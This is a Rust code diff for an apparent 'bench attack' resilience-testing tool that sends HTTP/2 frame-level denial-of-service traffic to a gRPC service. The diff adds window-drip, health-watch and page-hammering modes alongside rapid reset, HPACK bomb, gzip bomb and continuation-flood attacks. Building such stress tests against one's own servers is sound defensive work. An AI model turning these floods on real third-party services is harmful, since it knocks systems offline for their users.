@@ -10,11 +10,13 @@ use flate2::write::GzEncoder;
 use tokio::task::JoinSet;
 use tokio::time::{Instant, sleep};
 
+use super::bodies::{self, Bodies};
 use super::crowd;
+use super::hammer;
 use super::kind::Kind;
 use super::wire::{
-    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, End, HEADERS, Line, PING, RST_STREAM, SETTINGS, Told,
-    WINDOW_UPDATE, frame, head, message, setting,
+    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, End, HEADERS, INITIAL_WINDOW, Line, PING, RST_STREAM,
+    SETTINGS, Told, WINDOW_UPDATE, frame, head, message, setting,
 };
 
 /// Frames, or pairs of them, that are sent at once.
@@ -34,12 +36,11 @@ const UNREAD: u32 = 1_000;
 /// They are begun this many at a time, so that it is not their number that is felt.
 const STEP: (u32, Duration) = (5, Duration::from_millis(10));
 /// Before another connection, if none can be made.
-const PAUSE: Duration = Duration::from_millis(20);
+pub(super) const PAUSE: Duration = Duration::from_millis(20);
 const CHECK: &str = "/orders.v1.OrderService/CheckInventory";
 const LIST: &str = "/inventory.v1.InventoryService/ListStock";
 /// `page_size: 100`.
 const PAGE: &[u8] = &[0x08, 100];
-const INITIAL_WINDOW: u16 = 4;
 
 /// Options of `bench attack`
 #[derive(clap::Args)]
@@ -67,7 +68,14 @@ pub(crate) async fn run(options: Attack) -> anyhow::Result<bool> {
         let plan = Plan::of(&options);
         let mut attackers = JoinSet::new();
         for _ in 0..options.connections {
-            attackers.spawn(attack(plan.clone(), options.target, end));
+            let (plan, target) = (plan.clone(), options.target);
+            match options.kind {
+                Kind::MetricsHammered | Kind::ConsoleHammered => {
+                    attackers.spawn(hammer::pages(options.kind, target, end))
+                }
+                Kind::Products => attackers.spawn(hammer::products(target, end)),
+                _ => attackers.spawn(attack(plan, target, end)),
+            };
         }
         attackers.join_all().await.into_iter().fold(Told::default(), |mut all, told| {
             all.add(told);
@@ -103,6 +111,8 @@ async fn attack(plan: Plan, target: SocketAddr, end: Instant) -> Told {
 #[derive(Clone)]
 struct Plan {
     kind: Kind,
+    connections: usize,
+    bodies: Option<Bodies>,
     settings: Vec<u8>,
     /// Sent first.
     opening: Vec<u8>,
@@ -131,7 +141,7 @@ impl Plan {
         };
         let block = match kind {
             Kind::GzipBomb => head(CHECK, &[("grpc-encoding", "gzip")]),
-            Kind::SlowReaders => head(LIST, &[]),
+            Kind::SlowReaders | Kind::WindowDrip => head(LIST, &[]),
             Kind::HpackBomb => [head(CHECK, &[]), bomb()].concat(),
             _ => head(CHECK, &[]),
         };
@@ -141,20 +151,28 @@ impl Plan {
                 message(true, bytes.len(), &bytes)
             }
             Kind::Oversize => message(false, options.most + 1, &vec![0; SENT]),
-            Kind::SlowReaders => message(false, PAGE.len(), PAGE),
+            Kind::SlowReaders | Kind::WindowDrip => message(false, PAGE.len(), PAGE),
             _ => Vec::new(),
         };
         let opening = match kind {
             Kind::Continuation => frame(HEADERS, END_STREAM, 1, &block),
             _ => Vec::new(),
         };
-        let settings = if kind == Kind::SlowReaders { setting(INITIAL_WINDOW, 0) } else { Vec::new() };
-        Plan { kind, settings, opening, batch: one.repeat(BATCH as usize), block, message }
+        let closed = matches!(kind, Kind::SlowReaders | Kind::WindowDrip);
+        let settings = if closed { setting(INITIAL_WINDOW, 0) } else { Vec::new() };
+        let bodies = Bodies::of(kind, options.most);
+        let (connections, batch) = (options.connections, one.repeat(BATCH as usize));
+        Plan { kind, connections, bodies, settings, opening, batch, block, message }
     }
 
     /// Goes on until the time is over, or the connection.
     async fn assault(&self, line: &mut Line, end: Instant, sent: &mut u64) -> Result<(), End> {
+        if let Some(bodies) = &self.bodies {
+            return bodies.send(line, end, sent).await;
+        }
         match self.kind {
+            Kind::HealthWatches => bodies::watches(line, self.connections, end, sent).await,
+            Kind::WindowDrip => bodies::drip(line, |stream| self.call(stream), end, sent).await,
             Kind::RapidReset => self.reset(line, end, sent, None).await,
             Kind::PatientReset => self.reset(line, end, sent, Some(DARED)).await,
             Kind::HpackBomb => self.calls(line, end, sent, 1).await,
